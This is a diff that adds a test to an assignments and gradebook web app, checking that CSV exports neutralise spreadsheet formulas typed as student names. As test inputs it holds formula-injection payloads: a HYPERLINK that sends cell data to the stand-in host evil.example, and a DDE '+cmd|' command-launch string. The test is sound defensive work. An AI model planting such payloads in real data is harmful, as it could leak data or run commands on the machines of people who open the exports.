@@ -528,3 +528,24 @@ def test_assignments_exports_an_lms_gradebook_and_gradescope_results(app, clock)
     for path in ("gradebook.csv", f"submissions/{sub['id']}/results.json"):
         path = f"/api/assignments/{aid}/{path}"
         assert app.get(path, headers=bearer(tok["g1"])).status_code == 404, path
+
+
+def test_assignments_exports_never_carry_a_formula_a_student_typed(app, clock):
+    """A joined name `=HYPERLINK(...)` (and a roster name `+...`, `@...`) lands in grades.csv, gradebook.csv and
+    the roster's links.csv behind a single quote, so a spreadsheet shows it as text (tracer/spreadsheet.py); the
+    numbers stay numbers."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"grade")'
+    aid = publish(app, open=True)["id"]
+    r = app.post(f"/api/assignments/{aid}/join", json={"name": evil}, headers={"Authorization": ""})
+    assert r.status_code == 200, r.text
+    text = "id,name,email\nr1,+cmd|' /C calc'!A0,\nr2,@SUM(A1),\n"
+    r = app.post(
+        f"/api/assignments/{aid}/roster", content=text, headers={"Content-Type": "text/csv", "Accept": "text/csv"}
+    )
+    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
+    links = list(csv.DictReader(io.StringIO(r.text)))
+    assert [row["name"] for row in links] == ["'+cmd|' /C calc'!A0", "'@SUM(A1)"]
+    names = {row["name"] for row in grades(app, aid)}
+    assert names == {"'" + evil, "'+cmd|' /C calc'!A0", "'@SUM(A1)"}
+    book = list(csv.reader(io.StringIO(app.get(f"/api/assignments/{aid}/gradebook.csv", headers=TEACHER).text)))
+    assert {row[0] for row in book[2:]} == names and book[1][-1] == "13"  # Points Possible: still a number
